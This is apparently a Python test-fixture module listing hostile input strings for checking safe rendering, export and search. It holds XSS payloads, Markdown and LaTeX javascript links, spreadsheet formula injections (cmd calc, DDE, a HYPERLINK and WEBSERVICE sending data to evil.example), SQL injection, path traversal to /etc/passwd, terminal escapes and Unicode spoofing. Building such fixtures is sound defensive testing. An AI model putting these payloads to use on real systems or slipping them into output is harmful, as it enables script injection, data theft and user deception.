"""Texts that mean harm where they are shown, counted, exported or searched; each is tried as a text, a name and a title."""

from __future__ import annotations

CANARY = "__pwned"
ELSEWHERE = "https://evil.example"

HTML = {
    "script": f"<script>window.{CANARY}=1</script>",
    "broken out": f'"></span></style></script><script>window.{CANARY}=2</script>',
    "image": f'<img src=x onerror="window.{CANARY}=3"><img src={ELSEWHERE}/pixel.png>',
    "svg": f"<svg onload=window.{CANARY}=4><use href={ELSEWHERE}/x.svg#a /></svg>",
    "frame": f'<iframe src="javascript:parent.{CANARY}=5"></iframe><iframe srcdoc="<script>parent.{CANARY}=6</script>"></iframe>',
    "link": f'<a href="javascript:window.{CANARY}=7" autofocus onfocus="window.{CANARY}=8">x</a>',
    "base": f'<base href="{ELSEWHERE}/"><link rel=stylesheet href="{ELSEWHERE}/a.css"><meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    "form": f'<form action="{ELSEWHERE}"><button>Sign in again</button></form>',
    "style": f"<style>@import '{ELSEWHERE}/b.css'; body{{display:none}} .sw{{background:url({ELSEWHERE}/c.png)}}</style>",
    "comment": f"<!--><script>window.{CANARY}=9</script><!-- --!><x>",
    "template": "{{constructor.constructor('return 1')()}} ${7*7} #{7*7} <%= 7*7 %> {0} {month} {self.__class__} %s %(a)s %n",
    "entities": f"&lt;script&gt;window.{CANARY}=10&lt;/script&gt; &#60;img src=x onerror=window.{CANARY}=11&#62;",
    "null in tag": f"<scr\x0bipt>window.{CANARY}=12</scr\x0bipt><\u017fcript>window.{CANARY}=13</\u017fcript>",
    "attribute": f"' onmouseover='window.{CANARY}=14' x='\" onmouseover=\"window.{CANARY}=15\" x=\"",
    "vega": f"datum.x+toString.constructor('window.{CANARY}=16')()",
    "data link": "data:text/html,<script>alert(1)</script>",
    "script link": f"javascript:window.{CANARY}=17//",
}
MARKDOWN = {
    "picture": f"![x]({ELSEWHERE}/md.png) ![y][1]\n\n[1]: {ELSEWHERE}/ref.png",
    "md link": f"[click](javascript:window.{CANARY}=18) [click](data:text/html;base64,PHNjcmlwdD4=) <{ELSEWHERE}>",
    "md html": f"**bold** <details open ontoggle=window.{CANARY}=19><summary>a</summary></details>",
    "heading": "# Heading\n\n---\n\n> quote\n\n```\ncode\n```\n| a | b |\n|---|---|\n| c | d |",
    "directive": ":material/delete: :red[danger] :blue-background[x] :small[x] :streamlit: :shortcode: :grey-badge[New]",
    "latex": r"$\href{javascript:window.__pwned=20}{x}$ $$\frac{1}{0}$$ $\rule{99999em}{99999em}$ \(x\) $a$",
    "unbalanced": "`unbalanced ``` $ $$ ** __ ~~ [ ]( :red[ :material/",
}
FORMULAS = {
    "equals": "=cmd|' /C calc'!A0",
    "hyperlink": f'=HYPERLINK("{ELSEWHERE}?x="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide equals": "\uff1d1+1",
    "quoted": "'=1+1",
    "dde": '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "web": f'=WEBSERVICE("{ELSEWHERE}")',
}
UNICODE = {
    "right to left": "abc\u202egpj.exe\u202c \u2066\u2067\u2068x\u2069\u2069\u2069 \u200fx\u200e",
    "zero width": "pay\u200bpal \u200c\u200d\ufeff\u2060\u00ad\u180e x",
    "zalgo": "Z" + "\u0335\u0321\u0322\u0327\u0328\u034f" * 60 + "a" + "\u0300\u0301\u0302\u0303" * 90,
    "homoglyph": "\u0410dministr\u0430tor \u0455\u04bbarewell \uff21\uff22",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e0062\U000e007f\ufe0f" * 8,
    "line breaks": "one\u2028two\u2029three\u0085four\rfive\vsix\fseven",
    "private": "\ue000\U000f0000\U0010ffff\ufffe\uffff\ufdd0",
    "long word": "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 30,
    "long emoji": "\U0001f4a9" * 400,
    "arabic": "\ufdfd" * 20 + " \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \ufdfa",
    "combining first": "\u0301\u0301starts with a mark",
    "turkish": "\u0130\u0131\u00df\ufb01\u01c6 ǅ ﬃ",
    "tags": "\U000e0001\U000e0041\U000e0042\U000e007f",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x07x\x9b2J\x08\x08",
}
SQL = {
    "quote": "'; DROP TABLE item; --",
    "union": "' UNION SELECT name, sealed FROM person --",
    "wild": "%_%%' OR '1'='1",
    "fts": 'NEAR("a" "b", 99) AND text: ^x* OR ) ( " NOT -{a} a*b',
    "path": "../../../../etc/passwd",
    "windows": "C:\\Windows\\..\\CON.txt",
    "null word": "NULL",
    "json": '{"$ne": null}',
}
TEXTS = HTML | MARKDOWN | FORMULAS | UNICODE | SQL
"""By name: everything above, without what cannot be written in UTF-8."""
FORBIDDEN = {
    "lone surrogate": "a\ud800b\udfffc",
    "nul": "a\x00b\x00",
    "control": "".join(map(chr, range(1, 32))),
    "high control": "".join(map(chr, range(127, 160))),
}
"""What some formats can carry and a store must not."""
